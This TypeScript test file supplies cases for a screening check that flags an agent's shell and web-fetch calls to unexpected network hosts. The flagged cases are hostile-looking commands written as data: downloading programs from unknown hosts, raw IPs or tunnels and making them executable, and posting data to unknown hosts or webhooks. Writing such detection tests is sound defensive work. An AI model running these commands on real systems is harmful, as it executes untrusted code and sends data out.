import type { CallCase, CallCheckCases } from '../../screening/contract/check.ts';

const inProject = (cmd: string): CallCase => ({
  tool: 'shell',
  arguments: { cmd },
  context: { project: { packages: new Map(), hosts: new Set(['acme.example']) } },
});

export const networkUnexpectedHostCases: CallCheckCases = {
  flags: {
    'a text to a host of the manifests': [inProject("curl -d 'a=1' https://api.acme.example/v1"), 'medium'],
    'a program from a host of the manifests': [
      inProject('curl -o tool https://files.acme.example/tool && chmod +x tool'),
      'high',
    ],
    'a program with an unquoted address': [
      'curl https://files.example.net/x?a=1&b=2 -o tool && chmod +x tool',
      'high',
    ],
    'a program installed from an unknown host': [
      'curl -o x https://files.example.net/x; install -m 755 x /usr/local/bin/x',
      'high',
    ],
    'a program installed without a file': [
      'install -m 755 <(curl -s https://files.example.net/x) /tmp/x',
      'high',
    ],
    'a program from an unknown host': ['wget https://stranger.example/bin && chmod +x bin', 'high'],
    'a program from an address': ['curl -o x http://1.2.3.4/x; chmod 755 x', 'high'],
    'a program from a tunnel': ['curl -o /usr/local/bin/tool https://abc.ngrok-free.app/tool', 'high'],
    'a program from user content': [
      'curl -fsSLo run https://raw.githubusercontent.com/a/b/main/run && chmod u+x run',
      'medium',
    ],
    'a page of an address': ['curl http://1.2.3.4/', 'medium'],
    'a text to an unknown host': ["curl -d 'a=1' https://stranger.example/api", 'medium'],
    'a text to a web hook': ["curl -d 'a=1' https://hooks.slack.com/services/x", 'medium'],
    'a page of an unknown host': ['curl https://stranger.example/docs', 'low'],
    'a page of an unknown host by a web tool': [
      { tool: 'WebFetch', arguments: { url: 'https://stranger.example' } },
      'low',
    ],
    'a host that looks like a known one': ['curl https://github.com.stranger.example/x', 'low'],
  },
  passes: {
    'a program installed from the build': 'install -m 755 target/release/app /usr/local/bin/app',
    'a known host': 'curl -fsSL https://api.github.com/repos/a/b',
    'a registry': 'curl https://registry.npmjs.org/left-pad',
    'this machine': 'curl http://localhost:3000/health',
    'a private network': 'curl http://10.0.0.5:8080/',
    'a program from a known host': 'curl -Lo kubectl https://dl.k8s.io/v1/kubectl && chmod +x kubectl',
    'a release of a forge': 'curl -Lo t https://github.com/a/t/releases/download/v1/t && chmod +x t',
    'a host only known at run time': 'curl "$URL/health"',
    'the project host': inProject('curl https://api.acme.example/v1'),
    'a host in printed text': 'echo "see https://stranger.example"',
    'documentation by a web tool': {
      tool: 'WebFetch',
      arguments: { url: 'https://developer.mozilla.org/x' },
    },
  },
};
